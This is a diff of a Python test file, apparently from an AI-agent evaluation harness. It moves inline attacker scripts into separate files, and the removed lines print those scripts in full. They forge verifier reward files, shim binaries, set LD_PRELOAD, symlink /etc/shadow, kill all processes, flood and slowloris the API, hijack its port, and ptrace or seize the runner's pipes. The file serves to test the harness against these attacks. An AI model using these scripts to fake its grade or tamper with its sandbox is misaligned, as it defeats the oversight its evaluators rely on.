@@ -27,139 +27,27 @@ from worlds.core.wire import request
 Play = Callable[..., Outcome]
 Events = Callable[[Outcome], list[dict[str, Any]]]
 
-PLANT = r"""
-reward='{"reward": 1.0}'
-verdict='{"success": true, "reward": 1.0, "failure_label": "SUCCESS"}'
-event='{"type":"request","kind":"goal","status":200}'
-for place in /logs/verifier /logs /state /tests /workspace /workspace/logs/verifier /tmp /tmp/logs/verifier /dev/shm; do
-    mkdir -p $place 2> /dev/null
-    for name in reward.json reward.txt verdict.json; do echo "$reward" > $place/$name; done 2> /dev/null
-    echo "$verdict" > $place/verdict.json 2> /dev/null
-    echo "$event" > $place/events.jsonl 2> /dev/null
-    printf 'def pytest_sessionfinish():\n open("/logs/verifier/reward.json","w").write("1")\n' > $place/conftest.py 2> /dev/null
-done
-for target in /etc/shadow /etc/passwd /logs /logs/verifier/reward.json /state/events.jsonl /proc/self/root /proc/1/root / ..; do
-    ln -s $target /workspace/link$((++n)); ln -s $target /tmp/link$n
-done
-ln -s /workspace /workspace/loop; ln -s loop2 /workspace/loop2; mkfifo /workspace/fifo
-"""
+SCRIPTS = Path(__file__).parent / "scripts"
 
-PATCH = r"""
-cd /workspace
-mkdir -p bin pytest validators .local/lib/python3.11/site-packages .local/lib/python3.12/site-packages .config
-printf '#!/bin/sh\necho 1\n' | tee bin/python3 bin/pytest bin/bash bin/curl bin/cat bin/sh > /dev/null; chmod +x bin/*
-printf 'raise SystemExit(0)\n' | tee {pytest,validators}/__init__.py sitecustomize.py conftest.py pytest.py > /dev/null
-printf '[pytest]\naddopts = --collect-only\n' > pytest.ini
-printf 'export PATH=/workspace/bin:$PATH LD_PRELOAD=/workspace/evil.so BASH_ENV=/workspace/.bashrc\nexit 0\n' \
-    | tee .bashrc .profile .bash_profile .bash_login .zshrc .pythonrc > /dev/null
-head -c 4096 /dev/urandom > evil.so
-printf '#include <stdlib.h>\nvoid _init(void){exit(0);}\n' > evil.c
-printf '[install]\nuser=1\n' > .pydistutils.cfg; printf -- '--insecure\n--proxy http://127.0.0.1:9\n' > .curlrc.off
-chmod 000 bin; chmod 700 bin
-"""
 
-KILL = r"""
-for pid in $(seq 1 400); do [ $pid != $$ ] && [ $pid != $PPID ] && kill -9 $pid; done 2> /dev/null
-kill -STOP 1 2> /dev/null; kill -9 1 2> /dev/null; kill -SEGV 1 2> /dev/null
-kill -9 -1
-"""
+def script(name: str) -> str:
+    """What an attacker runs, from a file of its own."""
+    return "\n" + (SCRIPTS / name).read_text(encoding="utf-8")
 
-HTTP = r"""
-import os, resource, socket, struct, threading, time
-resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
-api = ("api", 8080)
 
-def say(data, read=True):
-    try:
-        with socket.create_connection(api, 5) as link:
-            link.settimeout(5)
-            link.sendall(data)
-            return link.recv(200) if read else b""
-    except OSError as error:
-        return repr(error).encode()
+PLANT = script("plant.sh")
 
-head = b"POST /clock/wait HTTP/1.1\r\nHost: api\r\n"
-# Of these only two reach the app, as requests for unknown routes: HTTP/9.9 and PRI. The others are no step and no event.
-for junk in (
-    b"\x00" * 4000, b"GET\r\n\r\n", b"GET / HTTP/9.9\r\n\r\n", b"GET /a b c HTTP/1.1\r\n\r\n", os.urandom(4000) + b"\r\n\r\n",
-    b"GET / HTTP/1.1\r\nHost: api\r\nX: " + b"a" * 5_000_000, b"GET /" + b"a" * 5_000_000, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
-    b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 100_000 + b"\r\n", head + b"Content-Length: -1\r\n\r\n",
-    b"\x16\x03\x01\x02\x00" + b"\x00" * 500,
-    head + b"Content-Length: 5\r\nContent-Length: 6\r\n\r\n", head + b"Transfer-Encoding: x\r\n\r\n",
-    head + b"Content-Length: 99999999999999999999999999999999999999999\r\n\r\n",
-):
-    say(junk)
-# Connections that open and break off at once, by ten thousands.
-for _ in range(10_000):
-    link = socket.socket()
-    link.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
-    try:
-        link.connect(api)
-    except OSError:
-        pass
-    link.close()
-# These are stray requests, one step each.
-print(say(head + b"Content-Length: 400000\r\n\r\n" + b"[" * 400_000)[:12])
-print(say(head + b"Content-Length: 18\r\n\r\n" + b'{"seconds": 1e999}')[:12])
-with socket.create_connection(api, 30) as link:
-    link.sendall(head + b"Content-Length: 1000000000\r\n\r\n")
-    block = b"x" * 1_000_000
-    for _ in range(1000):
-        link.sendall(block)
-    print(link.recv(12))
-"""
+PATCH = script("patch.sh")
 
-SLOW = r"""
-import resource, socket, time
-resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
-links = []
-try:
-    while len(links) < 3000:
-        links.append(socket.create_connection(("api", 8080), 2))
-        links[-1].send(b"GET /task HTTP/1.1\r\nHost: a\r\nX: ")
-except OSError:
-    links.pop().close()
-open("/tmp/slow", "w").write(str(len(links)))
-while True:
-    for link in links:
-        try:
-            link.send(b"y")
-        except OSError:
-            pass
-    time.sleep(0.1)
-"""
+KILL = script("kill.sh")
 
-REBIND = r"""
-import socket, sys
-while True:
-    for host in ("127.0.0.1", "0.0.0.0", "::"):
-        with socket.socket(socket.AF_INET6 if host == "::" else socket.AF_INET) as server:
-            for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
-                server.setsockopt(socket.SOL_SOCKET, option, 1)
-            if host == "::":
-                server.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
-            try:
-                server.bind((host, 8080))
-                server.listen()
-                open("/tmp/bound-" + host, "w").close()
-            except OSError:
-                open("/tmp/tried", "w").close()
-"""
+HTTP = script("http.py")
 
-RUNNER = r"""
-import ctypes, os, sys
-runner = os.getppid()
-libc = ctypes.CDLL(None, use_errno=True)
-said = sys.stdin.buffer.read()
-print("ptrace", libc.ptrace(16, runner, 0, 0))
-for number in (1, 2):
-    try:
-        end = libc.syscall(438, os.pidfd_open(runner), number, 0)  # pidfd_getfd
-        os.write(end if end >= 0 else os.open(f"/proc/{runner}/fd/{number}", os.O_WRONLY), said)
-    except OSError as error:
-        print(error)
-os.kill(runner, 9)
-"""
+SLOW = script("slow.py")
+
+REBIND = script("rebind.py")
+
+RUNNER = script("runner.py")
 
 FORGED = {
     "answer": b'{"code": 0, "omitted": 0, "size": 5}\nhello',
@@ -173,50 +61,10 @@ FORGED = {
 }
 """What an agent may say in the name of the runner."""
 
-HOLD = r"""
-import ctypes, os, select, signal, sys
-libc, runner, how = ctypes.CDLL(None, use_errno=True), os.getppid(), sys.argv[1]
-ends = [libc.syscall(438, os.pidfd_open(runner), number, 0) for number in (1, 2)]
-ends = [end if end >= 0 else os.open(f"/proc/{runner}/fd/{number}", os.O_WRONLY) for number, end in enumerate(ends, 1)]
-if os.fork():
-    signal.pause()
-os.setsid()
-os.kill(runner, signal.SIGSTOP if how == "stop" else signal.SIGKILL)
-while how == "drip":
-    os.write(ends[0], b"x")
-    select.select([], [], [], 0.3)
-while how == "flood":
-    os.write(ends[1], b"y" * 4096)
-signal.pause()
-"""
+HOLD = script("hold.py")
 """Takes the runner's own pipe ends, ends or stops it, and then keeps them, dripping or flooding."""
 
-STAND_IN = r"""
-import http.server, socket, time, urllib.request
-try:
-    urllib.request.urlopen("http://api:8080/die", timeout=5)
-except OSError:
-    pass
-
-class Server(http.server.HTTPServer):
-    allow_reuse_address = True
-
-class Handler(http.server.BaseHTTPRequestHandler):
-    def do_GET(self):
-        self.send_response(200)
-        self.end_headers()
-        self.wfile.write(b'{"ok":true}')
-    do_POST = do_GET
-
-for _ in range(200):
-    try:
-        server = Server(("", 8080), Handler)
-        break
-    except OSError:
-        time.sleep(0.05)
-open("/tmp/up", "w").close()
-server.serve_forever()
-"""
+STAND_IN = script("stand_in.py")
 
 
 @pytest.fixture(scope="module", autouse=True)
